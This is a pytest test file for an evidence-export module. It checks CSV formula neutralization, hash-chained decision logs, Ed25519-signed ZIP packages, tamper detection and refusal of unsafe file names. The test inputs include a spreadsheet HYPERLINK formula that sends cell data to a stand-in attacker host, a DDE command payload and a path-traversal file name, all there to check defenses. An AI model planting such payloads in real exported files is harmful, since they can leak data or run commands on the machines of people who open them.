import base64
import csv
import datetime as dt
import hashlib
import io
import json
import os
import stat
import zipfile

import pytest
from cryptography.hazmat.primitives.asymmetric.ed25519 import Ed25519PrivateKey

from evidence import formats
from evidence.formats import (
    GENESIS_HASH,
    SigningKeyError,
    canonical_json,
    csv_stream,
    decision_hash,
    neutralize_cell,
    verify_package,
)

LOG_COLUMNS = ["sequence", "item", "decision", "reason", "actor", "decided_at"]


def read_csv(data: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(data.decode("utf-8"), newline="")))


@pytest.mark.parametrize(
    "value, expected",
    [
        ('=HYPERLINK("http://evil.example/?"&A1,"x")', '\'=HYPERLINK("http://evil.example/?"&A1,"x")'),
        ("+1", "'+1"),
        ("-2", "'-2"),
        ("@SUM(A1:A9)", "'@SUM(A1:A9)"),
        ("\tcmd", "'\tcmd"),
        ("\rcmd", "'\rcmd"),
        ("alice@example.com", "alice@example.com"),
        ("a=b", "a=b"),
        ("", ""),
        (None, ""),
        ("'=already", "'=already"),
    ],
)
def test_neutralize_cell_prefixes_formula_triggers_only(value, expected):
    assert neutralize_cell(value) == expected


def test_neutralize_cell_is_idempotent_and_formats_utc_timestamps():
    assert neutralize_cell(neutralize_cell("=1+1")) == "'=1+1"
    paris = dt.timezone(dt.timedelta(hours=1))
    assert neutralize_cell(dt.datetime(2026, 3, 1, 10, 30, tzinfo=paris)) == "2026-03-01T09:30:00Z"
    assert neutralize_cell(True) == "true"
    assert neutralize_cell(-5) == "'-5"


def test_csv_stream_reads_back_as_text_with_header_first():
    rows = [
        ['=HYPERLINK("http://evil.example","click")', "+1", "-2", "@SUM(A1)", "\tTAB", "line1\r\nline2"],
        ["plain", "é ü 中", 'quote "x"', "a,b", None, 7],
    ]
    chunks = list(csv_stream(iter(rows), header=["a", "b", "c", "d", "e", "f"], chunk_size=1))
    assert chunks[0] == b"a,b,c,d,e,f\n"
    parsed = read_csv(b"".join(chunks))
    assert parsed == [
        ["a", "b", "c", "d", "e", "f"],
        [
            '\'=HYPERLINK("http://evil.example","click")',
            "'+1",
            "'-2",
            "'@SUM(A1)",
            "'\tTAB",
            "line1\r\nline2",
        ],
        ["plain", "é ü 中", 'quote "x"', "a,b", "", "7"],
    ]
    for cell in parsed[1]:
        assert cell[0] not in "=+-@\t\r"


def test_csv_stream_batches_rows_into_chunks():
    rows = ([str(i), "x" * 50] for i in range(10_000))
    chunks = list(csv_stream(rows, header=["n", "x"], chunk_size=64 * 1024))
    assert 5 < len(chunks) < 20
    assert all(len(chunk) < 64 * 1024 + formats.CSV_BATCH_ROWS * 60 for chunk in chunks)
    assert len(read_csv(b"".join(chunks))) == 10_001


def test_canonical_json_sorts_keys_without_spaces_in_utf8():
    assert canonical_json({"b": 1, "a": ["é", None]}) == '{"a":["é",null],"b":1}'.encode()
    with pytest.raises(TypeError):
        canonical_json({"a": object()})


def test_decision_hash_is_sha256_of_canonical_fields_with_previous_hash():
    fields = {
        "decision": "revoke",
        "reason": "left company",
        "decided_at": dt.datetime(2026, 1, 2, tzinfo=dt.UTC),
    }
    expected = hashlib.sha256(
        canonical_json(
            {
                "decided_at": "2026-01-02T00:00:00Z",
                "decision": "revoke",
                "prev_hash": GENESIS_HASH,
                "reason": "left company",
            }
        )
    ).hexdigest()
    assert decision_hash(None, fields) == expected
    assert decision_hash("", fields) == expected
    assert decision_hash("ab" * 32, fields) != expected
    assert decision_hash(None, {**fields, "reason": "left"}) != expected
    with pytest.raises(ValueError, match="prev_hash"):
        decision_hash(None, {"prev_hash": "x"})


def test_decision_hash_matches_values_read_back_from_the_log():
    fields = {"reason": "=cmd|' /C calc'!A0", "decided_at": dt.datetime(2026, 1, 2, 3, 4, 5, tzinfo=dt.UTC)}
    digest = decision_hash(None, fields)
    data = b"".join(csv_stream([[fields["reason"], fields["decided_at"]]], header=["reason", "decided_at"]))
    row = next(csv.DictReader(io.StringIO(data.decode(), newline="")))
    assert decision_hash(None, row) == digest


# ---------------------------------------------------------------- keys


def test_signing_key_from_base64_raw_and_pem():
    key = Ed25519PrivateKey.generate()
    raw = key.private_bytes_raw()
    from_b64 = formats.parse_signing_key(base64.b64encode(raw).decode())
    from_urlsafe = formats.parse_signing_key(base64.urlsafe_b64encode(raw).decode().rstrip("="))
    pem = formats.private_key_pem(key).decode()
    from_pem = formats.parse_signing_key(pem)
    from_escaped_pem = formats.parse_signing_key(pem.replace("\n", "\\n"))
    fingerprints = {
        formats.key_fingerprint(k) for k in (key, from_b64, from_urlsafe, from_pem, from_escaped_pem)
    }
    assert len(fingerprints) == 1


@pytest.mark.parametrize(
    "value, message",
    [
        ("", "is empty"),
        ("not base64 !!", "neither PEM nor base64"),
        (base64.b64encode(b"x" * 31).decode(), "decodes to 31 bytes"),
        ("-----BEGIN PRIVATE KEY-----\nAAAA\n-----END PRIVATE KEY-----", "not a readable"),
    ],
)
def test_bad_signing_key_is_rejected_with_the_reason(value, message):
    with pytest.raises(SigningKeyError, match=message):
        formats.parse_signing_key(value)


def test_key_is_generated_once_in_the_data_dir_with_mode_0600(tmp_path):
    first = formats.resolve_signing_key(env_value=None, data_dir=tmp_path)
    path = tmp_path / "evidence_signing_key.pem"
    assert stat.S_IMODE(os.stat(path).st_mode) == 0o600
    second = formats.resolve_signing_key(env_value=None, data_dir=tmp_path)
    assert formats.key_fingerprint(first) == formats.key_fingerprint(second)
    assert [p.name for p in tmp_path.iterdir()] == ["evidence_signing_key.pem"]


def test_environment_key_wins_over_the_data_dir(tmp_path):
    key = Ed25519PrivateKey.generate()
    chosen = formats.resolve_signing_key(
        env_value=base64.b64encode(key.private_bytes_raw()).decode(), data_dir=tmp_path
    )
    assert formats.key_fingerprint(chosen) == formats.key_fingerprint(key)
    assert list(tmp_path.iterdir()) == []
    assert formats.public_key_pem(key).startswith("-----BEGIN PUBLIC KEY-----")


# ---------------------------------------------------------------- packages


def chain_events(decisions):
    prev = None
    for fields in decisions:
        digest = decision_hash(prev, fields)
        yield prev, digest, fields
        prev = digest


def sample_decisions(count=5):
    return [
        {
            "sequence": n,
            "item": f"item-{n}",
            "decision": "revoke" if n % 2 else "approve",
            "reason": "-odd reason" if n == 3 else f"reason {n}",
            "actor": "alice@example.com",
            "decided_at": dt.datetime(2026, 1, 1, 12, n, tzinfo=dt.UTC),
        }
        for n in range(1, count + 1)
    ]


def build(tmp_path, key, decisions=None, extra_fields=None):
    decisions = sample_decisions() if decisions is None else decisions
    events = list(chain_events(decisions))
    head = events[-1][1] if events else GENESIS_HASH
    log = csv_stream(
        formats.decisions_log_rows(events, columns=LOG_COLUMNS),
        header=formats.decisions_log_header(LOG_COLUMNS),
    )
    entries = [
        ("campaign.csv", csv_stream([["a@example.com", "GitHub"]], header=["identity_email", "application"])),
        ("applications/github.csv", iter([b"identity_email\r\n", b"a@example.com\r\n"])),
        ("decisions_log.csv", log),
        ("campaign.json", iter([canonical_json({"name": "Q1"})])),
    ]
    path = tmp_path / "package.zip"
    with open(path, "wb") as handle:
        result = formats.write_package(
            handle,
            entries,
            manifest_fields={
                "campaign_id": "c-1",
                "generated_at": "2026-01-02T00:00:00Z",
                "chain_head": head,
                "decision_count": len(events),
                **(extra_fields or {}),
            },
            signing_key=key,
        )
    return path, result


def rewrite(path, replace=None, manifest=None):
    """Rebuild the archive with some members replaced (as someone tampering with it would)."""
    with zipfile.ZipFile(path) as archive:
        members = {name: archive.read(name) for name in archive.namelist()}
    for name, func in (replace or {}).items():
        members[name] = func(members[name])
    if manifest is not None:
        members["manifest.json"] = json.dumps(manifest).encode()
    with zipfile.ZipFile(path, "w") as archive:
        for name, data in members.items():
            archive.writestr(name, data)


def test_package_contents_manifest_and_checksums(tmp_path):
    key = Ed25519PrivateKey.generate()
    path, result = build(tmp_path, key)
    with zipfile.ZipFile(path) as archive:
        names = archive.namelist()
        manifest = json.loads(archive.read("manifest.json"))
        sums = archive.read("SHA256SUMS").decode()
        contents = {name: archive.read(name) for name in names}
    assert names == [
        "campaign.csv",
        "applications/github.csv",
        "decisions_log.csv",
        "campaign.json",
        "SHA256SUMS",
        "manifest.json",
    ]
    for entry in manifest["files"]:
        assert entry["sha256"] == hashlib.sha256(contents[entry["name"]]).hexdigest()
        assert entry["size"] == len(contents[entry["name"]])
    assert [e["name"] for e in manifest["files"]] == names[:-1]
    assert sums.splitlines()[0] == f"{hashlib.sha256(contents['campaign.csv']).hexdigest()}  campaign.csv"
    assert manifest["campaign_id"] == "c-1"
    assert manifest["signature_algorithm"] == "Ed25519"
    assert manifest["public_key_fingerprint"] == formats.key_fingerprint(key)
    body = {k: v for k, v in manifest.items() if k != "signature"}
    key.public_key().verify(base64.b64decode(manifest["signature"]), canonical_json(body))
    assert result.complete and result.sha256 == hashlib.sha256(path.read_bytes()).hexdigest()
    assert result.size == path.stat().st_size


def test_streamed_package_equals_written_package_and_yields_progressively(tmp_path):
    key = Ed25519PrivateKey.generate()
    big = (f"{n},{'y' * 40}\r\n".encode() for n in range(50_000))
    result = formats.PackageResult()
    chunks = list(
        formats.stream_package(
            [("big.csv", big)],
            manifest_fields={"campaign_id": "x"},
            signing_key=key,
            result=result,
            flush_size=16_384,
        )
    )
    assert len(chunks) > 3
    data = b"".join(chunks)
    assert hashlib.sha256(data).hexdigest() == result.sha256
    path = tmp_path / "big.zip"
    path.write_bytes(data)
    pem = formats.public_key_pem(key)
    assert verify_package(path, pem) == []


def test_untouched_package_verifies(tmp_path):
    key = Ed25519PrivateKey.generate()
    path, _ = build(tmp_path, key)
    assert verify_package(path, formats.public_key_pem(key)) == []


def test_changed_csv_byte_is_reported_with_file_and_hashes(tmp_path):
    key = Ed25519PrivateKey.generate()
    path, _ = build(tmp_path, key)
    rewrite(path, replace={"campaign.csv": lambda data: data.replace(b"GitHub", b"GitHuB")})
    problems = verify_package(path, formats.public_key_pem(key))
    assert len(problems) == 1
    assert problems[0].startswith("campaign.csv: SHA-256 is ")
    assert "manifest.json says" in problems[0]


def test_removed_decision_row_breaks_the_chain(tmp_path):
    key = Ed25519PrivateKey.generate()
    path, _ = build(tmp_path, key)

    def drop_third(data):
        lines = data.split(b"\n")
        return b"\n".join(lines[:3] + lines[4:])

    rewrite(path, replace={"decisions_log.csv": drop_third})
    problems = verify_package(path, formats.public_key_pem(key))
    assert any(p.startswith("decisions_log.csv: SHA-256 is") for p in problems)
    assert any(p.startswith("decisions_log.csv line 4: prev_hash is") and "removed" in p for p in problems)
    assert "decisions_log.csv has 4 decisions, manifest.json decision_count is 5" in problems


def test_removed_last_decision_is_caught_by_the_chain_head_even_with_fixed_hashes(tmp_path):
    key = Ed25519PrivateKey.generate()
    path, result = build(tmp_path, key)
    with zipfile.ZipFile(path) as archive:
        log = archive.read("decisions_log.csv")
    truncated = b"\n".join(log.split(b"\n")[:-2]) + b"\n"
    manifest = dict(result.manifest)
    manifest["files"] = [
        {**f, "sha256": hashlib.sha256(truncated).hexdigest(), "size": len(truncated)}
        if f["name"] == "decisions_log.csv"
        else f
        for f in manifest["files"]
    ]
    rewrite(path, replace={"decisions_log.csv": lambda _: truncated}, manifest=manifest)
    problems = verify_package(path, formats.public_key_pem(key))
    assert any("chain_head is" in p and "missing at the end" in p for p in problems)
    assert any(p.startswith("manifest.json signature does not verify") for p in problems)
    assert not any(p.startswith("decisions_log.csv: SHA-256") for p in problems)


def test_edited_decision_is_reported_on_its_line(tmp_path):
    key = Ed25519PrivateKey.generate()
    path, _ = build(tmp_path, key)
    rewrite(path, replace={"decisions_log.csv": lambda data: data.replace(b"revoke", b"approve", 1)})
    problems = verify_package(path, formats.public_key_pem(key))
    assert any(p.startswith("decisions_log.csv line 2: hash is") and "edited" in p for p in problems)


def test_manifest_resigned_with_another_key_fails(tmp_path):
    key = Ed25519PrivateKey.generate()
    attacker = Ed25519PrivateKey.generate()
    path, result = build(tmp_path, key)
    body = {k: v for k, v in result.manifest.items() if k != "signature"}
    body["campaign_id"] = "c-2"
    body["public_key_fingerprint"] = formats.key_fingerprint(attacker)
    forged = {**body, "signature": formats.sign(canonical_json(body), attacker)}
    rewrite(path, manifest=forged)
    problems = verify_package(path, formats.public_key_pem(key))
    assert problems == [
        f"manifest.json signature does not verify with public key {formats.key_fingerprint(key)}; the manifest "
        f"names key {formats.key_fingerprint(attacker)}, not the expected key {formats.key_fingerprint(key)} "
        "(re-signed with another key)"
    ]
    assert verify_package(path, formats.public_key_pem(attacker)) == []


def test_extra_and_missing_files_and_not_a_zip(tmp_path):
    key = Ed25519PrivateKey.generate()
    path, _ = build(tmp_path, key)
    with zipfile.ZipFile(path) as archive:
        members = {name: archive.read(name) for name in archive.namelist()}
    del members["campaign.json"]
    members["notes.txt"] = b"hello"
    with zipfile.ZipFile(path, "w") as archive:
        for name, data in members.items():
            archive.writestr(name, data)
    problems = verify_package(path, formats.public_key_pem(key))
    assert "campaign.json is listed in manifest.json but missing from the archive" in problems
    assert "notes.txt is in the archive but not listed in manifest.json" in problems
    garbage = tmp_path / "garbage.zip"
    garbage.write_bytes(b"not a zip")
    assert verify_package(garbage, formats.public_key_pem(key))[0].startswith(
        "cannot open the package as a ZIP"
    )


def test_package_with_no_decisions_verifies(tmp_path):
    key = Ed25519PrivateKey.generate()
    path, result = build(tmp_path, key, decisions=[])
    assert result.manifest["chain_head"] == GENESIS_HASH
    assert verify_package(path, formats.public_key_pem(key)) == []


@pytest.mark.parametrize("name", ["../evil.csv", "/abs.csv", "a//b.csv", "manifest.json", "SHA256SUMS", ""])
def test_unsafe_or_reserved_entry_names_are_refused(name):
    key = Ed25519PrivateKey.generate()
    with pytest.raises(ValueError, match="evidence file name"):
        formats.write_package(io.BytesIO(), [(name, iter([b"x"]))], manifest_fields={}, signing_key=key)


def test_row_spool_gives_each_key_its_rows_in_order_within_its_memory_budget(tmp_path):
    """Rows filed under many keys come back per key, in the order they were added, whether they were still
    buffered or already written to the spool file, with buffered memory bounded by the budget."""
    expected: dict[bytes, list[bytes]] = {}
    budget = 64 * 1024
    with formats.RowSpool(directory=tmp_path, budget=budget) as spool:
        for n in range(20000):
            key = f"app-{n % 37}".encode()
            row = f"row {n},\"quoted, with\nline break\"\n".encode()
            spool.add(key, row)
            expected.setdefault(key, []).append(row)
            assert sum(len(buffer) for buffer in spool._buffers.values()) <= budget + 37 * len(row)
        assert sorted(spool.keys()) == sorted(expected)
        for key, rows in expected.items():
            assert b"".join(spool.read(key)) == b"".join(rows)
            assert spool.size(key) == len(b"".join(rows))
        assert spool.size() == sum(len(b"".join(rows)) for rows in expected.values())
        assert list(spool.read(b"unknown")) == []
    assert list(tmp_path.iterdir()) == []  # the spool file is gone
